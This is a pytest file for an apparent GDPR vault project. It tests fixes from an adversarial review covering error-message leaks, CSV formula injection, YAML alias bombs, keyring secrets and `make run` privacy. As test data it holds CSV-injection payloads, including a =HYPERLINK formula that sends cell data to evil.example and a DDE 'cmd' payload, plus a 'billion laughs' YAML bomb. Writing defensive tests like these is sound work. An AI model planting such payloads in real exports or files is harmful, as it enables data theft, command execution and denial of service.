"""Findings of an adversarial review, each kept fixed: no personal data or secret in an error message,
no formula in a CSV export, no YAML "billion laughs", no secret in a settings error, and `make run`
private to its user and its machine. (The key store's database identity: test_vault.py.)"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import time
from datetime import UTC, datetime
from pathlib import Path

import pytest

from include.common.errors import InvalidInput, KeyringError
from include.common.reports import csv_bytes, write_csv
from include.common.settings import VaultSettings
from include.crypto.keyring import Keyring
from include.datamap.model import load_data_map
from include.duties.disclosures import load_register
from include.policies.instructions import load_instruction_file
from include.requests.importer import import_requests

PROJECT_ROOT = Path(__file__).resolve().parents[2]
AT = datetime(2026, 11, 24, 9, tzinfo=UTC)


@pytest.fixture
def backend():
    """The vault these tests open is on SQLite alone: what they check does not depend on the backend."""
    return "sqlite"


# -- 1. personal data in error messages --------------------------------------------------------

EMAIL = "zebedee.quixwort@quixmail-example.co.uk"
PHONE = "07700 918273"


def fragments(*values: str) -> set[str]:
    """Pieces of the values that must never be in a message: each value, each run of 4 or more
    characters between separators, and a phone number's digits and their last six."""
    found = set(values)
    for value in values:
        found |= {p for p in re.split(r"[\W_]+", value) if len(p) >= 4}
        if len(digits := re.sub(r"\D", "", value)) >= 6:
            found |= {digits, digits[-6:]}
    return found


class FakeVault:
    """What the importer asks of a vault before it registers anything."""

    def controller_ids(self) -> list[str]:
        return ["acme"]


HEADER = "controller,reference,received_on,email,phone,kind\n"
IMPORT_CASES = {
    # A row shifted one column left: the email lands in the controller column, the phone in kind's.
    "email as controller": HEADER + f"{EMAIL},R-1,2026-01-05,{EMAIL},{PHONE},{PHONE}\n",
    "phone as kind": HEADER + f"acme,R-1,2026-01-05,{EMAIL},{PHONE},{PHONE}\n",
    "bad email": HEADER + "acme,R-1,2026-01-05,zebedee.quixwort@quixmail_example.co.uk,,access\n",
    "bad email domain": HEADER + "acme,R-1,2026-01-05,zebedee.quixwort@quixmail\u0640.co.uk,,access\n",
    "bad phone": HEADER + f"acme,R-1,2026-01-05,{EMAIL},{PHONE} 1234,access\n",
    "no header": f"acme,R-1,2026-01-05,{EMAIL},{PHONE},access\n",
    "a person in the header": f"controller,reference,received_on,email,{EMAIL},{PHONE}\n"
                              f"acme,R-1,2026-01-05,{EMAIL},x,y\n",
    "bad date": HEADER.replace("kind", "identity_verified_on")
                + f"acme,R-1,2026-01-05,{EMAIL},{PHONE},{PHONE}\n",
}


@pytest.mark.parametrize("content", IMPORT_CASES.values(), ids=IMPORT_CASES)
def test_the_request_importer_never_echoes_a_value(tmp_path, content):
    path = tmp_path / "backlog.csv"
    path.write_text(content, encoding="utf-8")
    with pytest.raises(InvalidInput) as caught:
        import_requests(FakeVault(), path, actor="test", at=AT)
    message = str(caught.value)
    assert message.startswith(f"{path}:"), message
    leaked = [f for f in fragments(EMAIL, PHONE, "quixmail_example", "quixmail\u0640") if f in message]
    assert not leaked, message


def test_the_importer_still_says_which_line_column_and_fault(tmp_path):
    path = tmp_path / "backlog.csv"
    path.write_text(IMPORT_CASES["email as controller"])
    with pytest.raises(InvalidInput, match=r"backlog\.csv:2: controller: not a controller registered in the vault"):
        import_requests(FakeVault(), path, actor="test", at=AT)
    path.write_text(IMPORT_CASES["phone as kind"])
    with pytest.raises(InvalidInput, match=r"backlog\.csv:2: kind: not one of access"):
        import_requests(FakeVault(), path, actor="test", at=AT)
    path.write_text(IMPORT_CASES["a person in the header"])
    with pytest.raises(InvalidInput, match=r"backlog\.csv:1: unknown column\(s\) column 5, column 6; the columns are"):
        import_requests(FakeVault(), path, actor="test", at=AT)
    path.write_text("controller,reference,received_on,emial\n")
    with pytest.raises(InvalidInput, match=r"missing column\(s\) email"):
        import_requests(FakeVault(), path, actor="test", at=AT)
    path.write_text("controller,reference,received_on,email,knid\n")
    with pytest.raises(InvalidInput, match=r"column 5 \(did you mean 'kind'\?\)"):
        import_requests(FakeVault(), path, actor="test", at=AT)


# -- 2. formulas in CSV exports ------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd",
            "\t=1+1", "\r=1+1", "=1+1\n"]


def read_csv(data: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(data.decode(), newline="")))


def test_csv_cells_a_spreadsheet_would_run_are_neutralised():
    rows = [{"name": cell, "email": "ada@example.com", "count": -2, "nested": {"note": cell}} for cell in FORMULAS]
    written = read_csv(csv_bytes(rows))
    assert [r["name"] for r in written] == ["'" + cell for cell in FORMULAS]
    assert [r["nested.note"] for r in written] == ["'" + cell for cell in FORMULAS]
    assert {r["email"] for r in written} == {"ada@example.com"}  # text that is no formula is kept as it is
    assert {r["count"] for r in written} == {"-2"}  # a number stays a number


def test_a_carriage_return_inside_a_cell_cannot_start_a_row():
    """A bare CR in a cell was written unquoted: a spreadsheet began a new row there, with a formula."""
    data = csv_bytes([{"note": "fine\r=HYPERLINK(\"http://evil.example\")", "other": "x"}], ["note", "other"])
    assert read_csv(data) == [{"note": "fine\r=HYPERLINK(\"http://evil.example\")", "other": "x"}]
    assert data.count(b"\r\n") == 2 and b'"fine\r=' in data


def test_csv_headers_and_every_writer_are_neutralised(tmp_path):
    assert next(csv.reader(io.StringIO(csv_bytes([{"=cmd": 1}]).decode()))) == ["'=cmd"]
    path = write_csv(tmp_path / "report.csv", [{"a": "=1+1", "b": "plain"}], ["a", "b"])
    assert read_csv(path.read_bytes()) == [{"a": "'=1+1", "b": "plain"}]


def test_every_csv_the_project_writes_goes_through_csv_bytes():
    """include/common/reports.py's csv_bytes is the one CSV writer (mailing lists, access packages, reports)."""
    writers = re.compile(r"\.to_csv\(|csv\.writer\(|csv\.DictWriter\(|\bimport csv\b")
    readers_only = {"include/duties/disclosures.py"}  # reads batch files of disclosures, writes none
    found = {str(p.relative_to(PROJECT_ROOT)) for p in (PROJECT_ROOT / "include").rglob("*.py")
             if writers.search(p.read_text())}
    assert found - readers_only == {"include/common/reports.py"}
    disclosures = (PROJECT_ROOT / "include" / "duties" / "disclosures.py").read_text()
    assert not re.search(r"csv\.(writer|DictWriter)\(|\.to_csv\(", disclosures)


def test_a_mailing_list_export_neutralises_formulas(vault, tmp_path):
    from include.crypto.sealing import open_sealed
    from include.duties.marketing import export_mailing_list, subscribe
    from tests.helpers import instruct

    vault.add_controller("acme", "Acme Ltd", "england-and-wales", actor="test")
    instruct(vault, "acme", {"marketing": "2 years from collection"})
    subscribe(vault, controller_id="acme", email="ada@example.com", name='=HYPERLINK("http://evil.example","x")',
              source="signup form", actor="test", at=AT)
    export = export_mailing_list(vault, controller_id="acme", outbox=tmp_path / "outbox", actor="test", at=AT)
    rows = read_csv(open_sealed(export.path.read_bytes(), keyring=vault.keyring)["mailing-list.csv"])
    assert rows == [{"email": "ada@example.com", "name": '\'=HYPERLINK("http://evil.example","x")'}]


# -- 3. YAML aliases ---------------------------------------------------------------------------

LAUGHS = "\n".join(
    [f'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    + [f"{b}: &{b} [{','.join(['*' + a] * 9)}]" for a, b in zip("abcdefgh", "bcdefghi")]) + "\n"
LOADERS = {"instructions": load_instruction_file, "data map": load_data_map, "recipients": load_register}


@pytest.mark.parametrize("load", LOADERS.values(), ids=LOADERS)
def test_a_billion_laughs_is_refused_at_once_naming_file_and_line(tmp_path, load):
    path = tmp_path / "laughs.yaml"
    path.write_text(LAUGHS)
    assert len(LAUGHS) < 600
    started = time.perf_counter()
    with pytest.raises(InvalidInput) as caught:
        load(path)
    assert time.perf_counter() - started < 0.5
    assert re.fullmatch(rf"{re.escape(str(path))}:2: refused YAML: its aliases stand for more than "
                        r"100,000 values \(a \"billion laughs\"\).*", str(caught.value))


def test_a_few_aliases_are_still_allowed(tmp_path):
    path = tmp_path / "acme.yaml"
    path.write_text((PROJECT_ROOT / "include/config/instructions/fenland-cycles.yaml").read_text()
                    .replace("given_by: Managing Director, Fenland Cycles", "given_by: &who Managing Director", 1)
                    .replace("given_by: Managing Director, Fenland Cycles", "given_by: *who"))
    loaded = load_instruction_file(path)
    assert {i.given_by for i in loaded.content.instructions} >= {"Managing Director"}


# -- 4. secrets in settings and keyring errors ----------------------------------------------------

def keyring_secret(**changes) -> tuple[str, list[str]]:
    """A keyring's JSON with the root key last (so a message cut at its end would show it), and its
    keys' base64 texts."""
    doc = json.loads(Keyring.generate().to_json())
    keys = [doc["root_key"], *doc["keks"].values()]
    doc = {"format": 1, "keks": doc["keks"], "active_kek": 1, **changes, "root_key": doc["root_key"]}
    return json.dumps(doc), keys


def assert_no_fragment(message: str, secrets: list[str]) -> None:
    for secret in secrets:
        pieces = {secret[i:i + 8] for i in range(len(secret) - 7)}
        assert not [p for p in pieces if p in message], f"a piece of a secret is in: {message}"


def test_a_settings_error_never_quotes_the_keyring_secret(tmp_path):
    secret, keys = keyring_secret()
    url = f"sqlite:///{tmp_path / 'vault.db'}"
    with pytest.raises(ValueError) as caught:
        VaultSettings(vault_url=url, keystore_url=url, keyring_secret=secret)
    message = str(caught.value)
    assert "keystore_url must name a different database from vault_url" in message
    assert_no_fragment(message, [secret[-40:], *keys])


def test_a_settings_error_never_quotes_a_password_in_a_url():
    with pytest.raises(ValueError) as caught:
        VaultSettings(vault_url="postgresql://gdpr:Sesame-Quixwort-77@db.example/vault",
                      keystore_url="not a url Sesame-Quixwort-77")
    assert "keystore_url is not a SQLAlchemy database URL" in str(caught.value)
    assert "Quixwort" not in str(caught.value)


MALFORMED = {  # (what to change, given the root key and the KEK; what the message must say)
    "active_kek holds a key": (lambda keys: {"active_kek": keys[0]},
                               r"active_kek \(not a version number\) is not among keks \[1\]"),
    "root key too short": (lambda keys: {"root_key": keys[1][:-8] + "===="},
                           r"root_key must be 32 bytes|root_key is not valid base64"),
    "root key not base64": (lambda keys: {"root_key": keys[1][:-2] + "!!"}, r"root_key is not valid base64"),
    "a kek not base64": (lambda keys: {"keks": {"1": "*" + keys[1][1:]}}, r"keks\.1 is not valid base64"),
}


@pytest.mark.parametrize(("change", "problem"), MALFORMED.values(), ids=MALFORMED)
def test_a_malformed_keyring_secret_is_named_and_never_quoted(tmp_path, change, problem):
    from include.vault.store import Vault

    secret, keys = keyring_secret()
    doc = json.loads(secret)
    doc.update(change([doc["root_key"], doc["keks"]["1"]]))
    secret = json.dumps(doc)
    settings = VaultSettings(vault_url=f"sqlite:///{tmp_path / 'vault.db'}",
                             keystore_url=f"sqlite:///{tmp_path / 'keys.db'}", keyring_secret=secret)
    with pytest.raises(KeyringError, match=problem) as caught:
        Vault.open(settings, create=True)
    assert "the configured keyring secret" in str(caught.value)
    assert_no_fragment(str(caught.value), [k for k in (doc["root_key"], *doc["keks"].values(), *keys)
                                           if isinstance(k, str) and len(k) > 8])


def test_a_truncated_keyring_secret_is_named_and_never_quoted(tmp_path):
    from include.vault.store import Vault

    secret, keys = keyring_secret()
    settings = VaultSettings(vault_url=f"sqlite:///{tmp_path / 'vault.db'}",
                             keystore_url=f"sqlite:///{tmp_path / 'keys.db'}", keyring_secret=secret[:-20])
    with pytest.raises(KeyringError, match=r"the configured keyring secret is not valid JSON \(line 1\)") as caught:
        Vault.open(settings, create=True)
    assert_no_fragment(str(caught.value), keys)


def test_the_vault_hook_connection_test_never_shows_the_secret(tmp_path, monkeypatch):
    """What the Airflow UI's connection test printed: a pydantic error quoting the keyring secret."""
    from gdpr.hooks.vault import VaultHook

    secret, keys = keyring_secret()
    url = f"sqlite:///{tmp_path / 'vault.db'}"
    monkeypatch.setenv("AIRFLOW_CONN_LEAKY", json.dumps({
        "conn_type": "gdpr-vault", "password": secret, "extra": {"database_url": url, "keystore_url": url}}))
    ok, message = VaultHook("leaky").test_connection()
    assert not ok and "must name a different database" in message
    assert_no_fragment(message, [secret[-40:], *keys])

    malformed = json.loads(secret)
    malformed["active_kek"] = keys[0]
    monkeypatch.setenv("AIRFLOW_CONN_LEAKY", json.dumps({
        "conn_type": "gdpr-vault", "password": json.dumps(malformed),
        "extra": {"database_url": url, "keystore_url": f"sqlite:///{tmp_path / 'keys.db'}"}}))
    ok, message = VaultHook("leaky").test_connection()
    assert not ok and "active_kek" in message
    assert_no_fragment(message, keys)


# -- 6. make run -------------------------------------------------------------------------------

def make(*args: str, env: dict | None = None) -> str:
    result = subprocess.run(["make", "--no-print-directory", *args], cwd=PROJECT_ROOT, capture_output=True, text=True,
                            timeout=60, env={**os.environ, **(env or {})})
    assert result.returncode == 0, result.stderr
    return result.stdout


@pytest.fixture
def show_host(tmp_path) -> list[str]:
    """make with an extra target printing the API host the recipes' environment holds."""
    extra = tmp_path / "show.mk"
    extra.write_text("show-host:\n\t@echo \"$$AIRFLOW__API__HOST\"\n")
    return ["-s", "-f", "Makefile", "-f", str(extra), "show-host"]


def test_make_run_keeps_its_files_private():
    # -n prints the commands without running them (install's too, if its stamp is out of date).
    lines = make("-n", "run").replace("\\\n", " ").splitlines()
    writers = [line for line in lines if re.search(r"airflow (standalone|db migrate)|gdpr-admin|mkdir", line)]
    assert len(writers) >= 6
    assert all(line.startswith("umask 077 && ") for line in writers), writers
    assert any(f'chmod 700 "{PROJECT_ROOT / "var"}"' in line and "airflow standalone" in line for line in lines)


def test_make_run_serves_on_this_machine_unless_told_otherwise(show_host):
    env = {k: v for k, v in os.environ.items() if k != "AIRFLOW__API__HOST"}
    clean = subprocess.run(["make", "--no-print-directory", *show_host], cwd=PROJECT_ROOT, capture_output=True,
                           text=True, timeout=60, env=env)
    assert clean.stdout.strip() == "127.0.0.1", clean.stderr
    assert make(*show_host, env={"AIRFLOW__API__HOST": "0.0.0.0"}).strip() == "0.0.0.0"
    assert make(*show_host, "AIRFLOW__API__HOST=192.0.2.1").strip() == "192.0.2.1"
